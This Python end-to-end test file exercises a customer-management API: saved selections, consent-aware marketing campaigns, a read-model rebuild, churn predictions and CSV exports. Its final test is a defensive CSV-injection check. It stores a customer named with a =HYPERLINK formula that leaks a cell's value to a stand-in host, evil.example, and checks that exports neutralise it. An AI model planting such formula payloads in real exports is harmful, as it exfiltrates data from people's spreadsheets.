"""Smart selections over HTTP (C10): the read model follows orders and messages as their
events arrive; a saved selection says its size and lists its customers; bad criteria
are a 400 naming the path."""

import csv
import io
import uuid

from tests.e2e.customer_helpers import unique_name


def test_a_selection_follows_orders_and_messages(stack, eventually):
    t = uuid.uuid4().hex[:6].upper()
    spade, rake = f"SPADE-{t}", f"RAKE-{t}"
    for sku in (spade, rake):
        stack.request(
            "POST",
            "/api/products",
            role="admin",
            json={"sku": sku, "name": sku, "price": "10.00", "stock_on_hand": 50, "product_group": f"g{t}"},
        )
    people = []
    for n in range(3):
        body = {
            "kind": "person",
            "given_name": "Sel",
            "family_name": unique_name(),
            "emails": [{"address": f"s{n}.{t}@example.se"}],
        }
        people.append(stack.request("POST", "/api/customers", json=body).json()["id"])
    for cid, skus in zip(people, ([spade], [spade, rake], [rake]), strict=True):
        r = stack.request(
            "POST",
            "/api/orders",
            json={"customer_id": cid, "lines": [{"sku": s, "quantity": 1} for s in skus]},
        )
        assert r.status_code == 201, r.text
    criteria = {"all": [{"bought": {"sku": spade}}, {"not": {"bought": {"sku": rake}}}]}
    assert eventually(
        lambda: (
            stack.request("POST", "/api/selections/preview", json={"criteria": criteria}).json()
            == {"size": 1}
        )
    )

    r = stack.request("POST", "/api/selections", json={"name": f"spade not rake {t}", "criteria": criteria})
    assert r.status_code == 201 and r.json()["last_size"] == 1
    members = stack.request("GET", f"/api/selections/{r.json()['id']}/customers").json()
    assert [m["id"] for m in members] == [people[0]]
    group = {"bought": {"product_group": f"g{t}"}}
    assert stack.request("POST", "/api/selections/preview", json={"criteria": group}).json() == {"size": 3}
    # the order confirmations that went out count as mailings received
    mailed = {"all": [group, {"received_mailing": {"template": "order_confirmation"}}]}
    assert eventually(
        lambda: (
            stack.request("POST", "/api/selections/preview", json={"criteria": mailed}).json() == {"size": 3}
        )
    )

    bad = stack.request(
        "POST", "/api/selections/preview", json={"criteria": {"all": [{"bought": {"colour": "red"}}]}}
    )
    assert bad.status_code == 400 and bad.json()["fields"] == {
        "criteria.all.0.bought": "exactly one of sku or product_group"
    }


def test_a_campaign_reaches_a_selection_once_and_counts_replies_and_orders(stack, eventually):
    t = uuid.uuid4().hex[:6].upper()
    sku = f"SEED-{t}"
    stack.request(
        "POST",
        "/api/products",
        role="admin",
        json={"sku": sku, "name": sku, "price": "10.00", "stock_on_hand": 50},
    )
    people = []
    for n in range(3):
        body = {
            "kind": "person",
            "given_name": "Kamp",
            "family_name": unique_name(),
            "emails": [{"address": f"k{n}.{t}@example.se"}],
        }
        cid = stack.request("POST", "/api/customers", json=body).json()["id"]
        people.append(cid)
        # marketing is opt-in: a campaign reaches only those who consented
        stack.request("PUT", f"/api/customers/{cid}/consent", json={"given": True})
        stack.request(
            "POST", "/api/orders", json={"customer_id": cid, "lines": [{"sku": sku, "quantity": 1}]}
        )
    selection = {"name": f"buyers {t}", "criteria": {"bought": {"sku": sku}}}
    assert eventually(
        lambda: (
            stack.request("POST", "/api/selections/preview", json={"criteria": selection["criteria"]}).json()[
                "size"
            ]
            == 3
        )
    )
    selection_id = stack.request("POST", "/api/selections", json=selection).json()["id"]
    r = stack.request(
        "PUT",
        f"/api/templates/offer_{t.lower()}/en/email",
        role="admin",
        json={
            "purpose": "marketing",
            "subject": "Spring offer {{ customer.name }}",
            "text": "20 % off seeds",
        },
    )
    assert r.status_code == 200, r.text
    stack.request("POST", f"/api/customers/{people[2]}/opt-outs", json={"channel": "email"})
    r = stack.request(
        "POST",
        "/api/campaigns",
        role="supervisor",
        json={
            "name": f"spring {t}",
            "template": f"offer_{t.lower()}",
            "selection_id": selection_id,
            "per_minute": 6000,
        },
    )
    assert r.status_code == 201 and r.json()["status"] == "draft", r.text
    campaign = r.json()["id"]
    assert (
        stack.request("POST", f"/api/campaigns/{campaign}/start", role="supervisor").json()["status"]
        == "running"
    )

    def finished():
        got = stack.request("GET", f"/api/campaigns/{campaign}", role="supervisor").json()
        return got if got["status"] == "done" and got["results"]["delivered"] == 2 else None

    done = eventually(finished)
    assert (done["targeted"], done["results"]["opted_out"]) == (3, 1)

    # the first customer answers the campaign mail; the second orders again
    sent = stack.request(
        "GET", f"/api/messages?recipient=k0.{t}@example.se&template=offer_{t.lower()}", role="supervisor"
    ).json()
    reply = (
        f"From: k0.{t}@example.se\r\nSubject: Re: Spring offer\r\nMessage-ID: <re.{t}@example.se>\r\n"
        f"In-Reply-To: {sent[0]['message_id']}\r\n\r\nYes please!\r\n"
    ).encode()
    r = stack.request(
        "POST",
        "/api/cases/inbound/email",
        role="inbound",
        data=reply,
        headers={"Content-Type": "message/rfc822"},
    )
    assert r.status_code == 200, r.text
    stack.request(
        "POST", "/api/orders", json={"customer_id": people[1], "lines": [{"sku": sku, "quantity": 2}]}
    )
    answered = eventually(
        lambda: (
            (got := stack.request("GET", f"/api/campaigns/{campaign}", role="supervisor").json()["results"])
            and got["replied"] == 1
            and got["ordered"] == 1
            and got
        )
    )
    assert answered["delivered"] == 2 and answered["bounced"] == 0


def test_the_read_model_is_rebuilt_from_scratch_by_a_command(stack, eventually):
    import subprocess
    import sys

    from tests.stack import ROOT

    t = uuid.uuid4().hex[:6].upper()
    sku = f"RB-{t}"
    stack.request(
        "POST",
        "/api/products",
        role="admin",
        json={"sku": sku, "name": sku, "price": "5.00", "stock_on_hand": 9},
    )
    body = {
        "kind": "person",
        "given_name": "Re",
        "family_name": unique_name(),
        "emails": [{"address": f"rb.{t}@example.se"}],
    }
    cid = stack.request("POST", "/api/customers", json=body).json()["id"]
    stack.request("POST", "/api/orders", json={"customer_id": cid, "lines": [{"sku": sku, "quantity": 1}]})
    criteria = {"all": [{"bought": {"sku": sku}}, {"received_mailing": {"template": "order_confirmation"}}]}
    preview = lambda: stack.request("POST", "/api/selections/preview", json={"criteria": criteria}).json()  # noqa: E731
    assert eventually(lambda: preview() == {"size": 1})
    done = subprocess.run(
        [sys.executable, "-m", "services.customer.rebuild_selections"],
        cwd=ROOT,
        env=stack.env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    assert "rebuilt the selections' read model" in done.stdout
    assert preview() == {"size": 1}


def test_predictions_are_trained_through_the_api_and_shown_in_the_360_view(stack):
    assert stack.request("POST", "/api/predictions/train", role="agent").status_code == 403
    r = stack.request("POST", "/api/predictions/train?horizon_days=30", role="admin")
    assert r.status_code == 200, r.text
    report = r.json()
    assert report["horizon_days"] == 30
    assert stack.request("GET", "/api/predictions/model").json()["id"] == report["id"]
    cid = stack.request(
        "POST", "/api/customers", json={"kind": "person", "name": f"P {unique_name()}"}
    ).json()["id"]
    view = stack.request("GET", f"/api/customers/{cid}/overview").json()
    assert view["sections"]["prediction"] == "ok" and view["prediction"] is None  # never bought: not scored
    bad = stack.request("POST", "/api/selections/preview", json={"criteria": {"churn_risk": {"at_least": 2}}})
    assert bad.status_code == 400 and bad.json()["fields"] == {
        "criteria.churn_risk.at_least": "a number from 0 to 1"
    }


def test_a_name_that_is_a_formula_comes_out_of_the_exports_as_text(stack, eventually):
    """CSV injection: a customer and a product named like a spreadsheet formula reach the
    selection's and the sales statistics' CSV as text, a quote in front; amounts and
    counts stay numbers."""
    t = uuid.uuid4().hex[:6].upper()
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    sku = f"EVIL-{t}"
    r = stack.request(
        "POST",
        "/api/products",
        role="admin",
        json={"sku": sku, "name": f"@SUM(1+1) {t}", "price": "10.00", "stock_on_hand": 5},
    )
    assert r.status_code == 201, r.text
    body = {"kind": "person", "given_name": formula, "family_name": unique_name()}
    r = stack.request("POST", "/api/customers", json=body)
    assert r.status_code == 201, r.text
    customer = r.json()
    r = stack.request(
        "POST", "/api/orders", json={"customer_id": customer["id"], "lines": [{"sku": sku, "quantity": 2}]}
    )
    assert r.status_code == 201, r.text
    criteria = {"bought": {"sku": sku}}
    assert eventually(
        lambda: (
            stack.request("POST", "/api/selections/preview", json={"criteria": criteria}).json()
            == {"size": 1}
        )
    )
    selection = stack.request(
        "POST", "/api/selections", json={"name": f"formula {t}", "criteria": criteria}
    ).json()

    r = stack.request("GET", f"/api/selections/{selection['id']}/customers?format=csv")
    assert r.status_code == 200 and r.headers["Content-Type"].startswith("text/csv")
    (row,) = list(csv.DictReader(io.StringIO(r.text)))
    assert row["name"].startswith("'=HYPERLINK(") and row["id"] == str(customer["id"])
    assert (
        stack.request("GET", f"/api/selections/{selection['id']}/customers")
        .json()[0]["name"]
        .startswith("=HYPERLINK(")
    )  # the JSON answer is the data as it is

    month = stack.request("GET", f"/api/customers/{customer['id']}").json()["created_at"][:7]
    r = stack.request(
        "GET", f"/api/statistics/sales-by-product?from={month}&to={month}&format=csv", role="supervisor"
    )
    (sold,) = [row for row in csv.DictReader(io.StringIO(r.text)) if row["sku"] == sku]
    assert sold["name"] == f"'@SUM(1+1) {t}" and sold["quantity"] == "2" and sold["revenue"] == "20.00"
